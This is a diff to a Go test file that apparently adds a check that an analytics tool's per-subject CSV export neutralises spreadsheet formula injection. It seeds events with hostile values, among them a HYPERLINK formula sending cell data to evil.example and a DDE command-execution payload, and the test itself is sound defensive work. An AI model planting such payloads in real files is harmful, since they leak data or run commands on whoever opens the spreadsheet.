@@ -9,6 +9,7 @@ import (
 	"net"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -200,5 +201,69 @@ func TestExportEraseRoundTrip(t *testing.T) {
 	}
 	if n := count("SELECT count() FROM events WHERE site_id = 'other.example'"); n != 2 {
 		t.Fatalf("other.example has %d rows, want 2", n)
+	}
+}
+
+// TestExportCSVNeutralisesFormulas: a subject's rows carry text the
+// visitor's browser sent (paths, referrers, campaign names, property keys
+// and values), and the CSV export is opened in spreadsheets: no text
+// cell may start as a formula (= + - @ tab CR), the header included.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	db := chtest.Migrated(t)
+	cfg := sites(t)
+	alice := identity.NewSubjectKey([]byte(subjectKey)).String("alice")
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	const (
+		path = `=HYPERLINK("https://evil.example/?d="&A1,"Open")`
+		name = `=cmd|' /C calc'!A0`
+	)
+	w := sink.New(sink.Options{Conn: db.Conn, Interval: time.Hour})
+	e := w.NewEvent()
+	e.SiteID, e.EventID, e.TS, e.Type = "shop.example", uuid.New(), time.Now().UTC().Truncate(time.Second), model.TypeCustom
+	e.SubjectID = append(e.SubjectID, alice...)
+	e.Name = append(e.Name, name...)
+	e.Pathname = append(e.Pathname, path...)
+	e.Referrer = append(e.Referrer, "+1+1"...)
+	e.UTMSource = append(e.UTMSource, "-2+3"...)
+	e.UTMCampaign = append(e.UTMCampaign, "@SUM(1)"...)
+	e.UTMTerm = append(e.UTMTerm, "\tx"...)
+	e.UTMContent = append(e.UTMContent, "\rx"...)
+	e.AddProp([]byte("=key"), []byte("+value"))
+	if err := w.Enqueue(e); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := w.Close(ctx); err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if n, err := subject.New(subject.Options{Conn: db.Conn, Sites: cfg}).Export(ctx, "shop.example", alice, subject.CSV, &b); n != 1 || err != nil {
+		t.Fatalf("export: %d rows, %v", n, err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil || len(recs) != 2 {
+		t.Fatalf("csv: %v, %d records", err, len(recs))
+	}
+	cols := map[string]string{}
+	for i, c := range recs[0] {
+		cols[c] = recs[1][i]
+	}
+	for col, want := range map[string]string{
+		"pathname": "'" + path, "name": "'" + name, "referrer": "'+1+1", "utm_source": "'-2+3",
+		"utm_campaign": "'@SUM(1)", "utm_term": "'\tx", "utm_content": "'\rx", "prop_keys": `["=key"]`,
+	} {
+		if cols[col] != want {
+			t.Errorf("%s: %q, want %q", col, cols[col], want)
+		}
+	}
+	for i, rec := range recs {
+		for j, c := range rec {
+			if _, err := strconv.ParseFloat(c, 64); err == nil {
+				continue // a number Glimpse formatted, sign and all
+			}
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("record %d, %s: %q starts as a formula", i, recs[0][j], c)
+			}
+		}
 	}
 }
